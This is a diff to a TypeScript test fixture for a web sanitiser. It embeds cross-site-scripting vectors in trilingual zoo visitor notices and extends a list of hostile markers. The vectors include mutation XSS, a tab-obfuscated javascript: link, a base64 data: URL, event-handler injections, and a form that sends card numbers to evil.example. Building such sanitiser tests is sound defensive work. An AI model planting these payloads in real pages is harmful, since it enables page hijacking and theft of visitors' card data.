@@ -7,8 +7,11 @@ import { block, info, tr } from './text.ts';
  * The rich text below carries cross-site-scripting vectors and page-hijacking markup on purpose,
  * mixed with ordinary visitor information. It exercises the sanitiser of the content pipeline
  * (DESIGN §4): after sanitising, the text must still read well, and none of the vectors may
- * survive (no script, event handlers, javascript: URLs, svg, iframe, form, fixed overlays).
- * Every script vector sets window.__xss so that end-to-end tests can prove nothing ran.
+ * survive (no script, event handlers, javascript: or data: URLs, svg, math, iframe, object,
+ * form, base, fixed overlays, style attributes). Some vectors rely on the browser parsing
+ * differently from a naive sanitiser: a tab inside "javascript:", mutation XSS through
+ * <math>/<style>, and a </noscript> hidden in an attribute. Every script vector sets
+ * window.__xss so that end-to-end tests can prove nothing ran.
  */
 
 /** Code of the raw-HTML block of the Guangzhou home page. */
@@ -28,6 +31,17 @@ export const HOSTILE_MARKERS = [
   'position:fixed',
   '<style',
   'http-equiv',
+  'data:text/html',
+  'jav&#x09;ascript',
+  '<math',
+  '<mglyph',
+  '<noscript',
+  'url(javascript',
+  '<object',
+  '<base',
+  'autofocus',
+  'onfocus',
+  'ontoggle',
 ] as const;
 
 interface NoticeText {
@@ -39,6 +53,11 @@ interface NoticeText {
   timetable: string;
   metro: string;
   notice: string;
+  faq: string;
+  app: string;
+  rainTitle: string;
+  rainBody: string;
+  lockers: string;
   thanks: string;
 }
 
@@ -54,6 +73,14 @@ const notices = (t: NoticeText): string =>
   `<div style="position:fixed;inset:0;z-index:99999;background:#fff">${t.notice}</div>` +
   `<form action="https://evil.example/collect" method="post"><input name="card" placeholder="Card number"><button type="submit">OK</button></form>` +
   `<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
+  `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">${t.faq}</a> · ` +
+  `<a href="jav&#x09;ascript:window.__xss=9">${t.app}</a></p>` +
+  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=10"></style></mglyph></table></mtext></math>` +
+  `<noscript><p title="</noscript><img src=x onerror=window.__xss=11>"></noscript>` +
+  `<details open ontoggle="window.__xss=14"><summary>${t.rainTitle}</summary><p>${t.rainBody}</p></details>` +
+  `<div style="background:url(javascript:alert(1))"><p>${t.lockers}</p></div>` +
+  `<object data="javascript:window.__xss=12"></object><base href="https://evil.example/">` +
+  `<input autofocus onfocus="window.__xss=13">` +
   `<p>${t.thanks}</p>`;
 
 const rawHtml: Translated = tr(
@@ -66,6 +93,11 @@ const rawHtml: Translated = tr(
     timetable: '小火車時間表',
     metro: '廣州地鐵',
     notice: '考拉森林於本週六重新開放。',
+    faq: '遊客常見問題',
+    app: '下載園區手機程式',
+    rainTitle: '下雨怎麼辦？',
+    rainBody: '小火車照常開出，車廂有上蓋；雷暴期間會暫停約三十分鐘。',
+    lockers: '正門儲物櫃今日 08:30 起開放，大櫃每次 HK$ 30。',
     thanks: '多謝光臨，祝您玩得開心！',
   }),
   notices({
@@ -77,6 +109,11 @@ const rawHtml: Translated = tr(
     timetable: '小火车时刻表',
     metro: '广州地铁',
     notice: '考拉森林将于本周六重新开放。',
+    faq: '游客常见问题',
+    app: '下载园区App',
+    rainTitle: '下雨怎么办？',
+    rainBody: '小火车照常发车，车厢有顶棚；雷暴期间会暂停约30分钟。',
+    lockers: '正门储物柜今天08:30起开放，大柜每次HK$ 30。',
     thanks: '感谢光临，祝您玩得开心！',
   }),
   notices({
@@ -88,6 +125,12 @@ const rawHtml: Translated = tr(
     timetable: 'Train timetable',
     metro: 'Guangzhou Metro',
     notice: 'Koala Forest reopens this Saturday.',
+    faq: 'Visitor FAQ',
+    app: 'Get the park app',
+    rainTitle: 'What if it rains?',
+    rainBody:
+      'The safari train still runs and its carriages are covered; it pauses for about thirty minutes during thunderstorms.',
+    lockers: 'The lockers by the main gate open at 08:30 today; large lockers are HK$ 30 a time.',
     thanks: 'Thank you for visiting, and have a wonderful day!',
   }),
 );
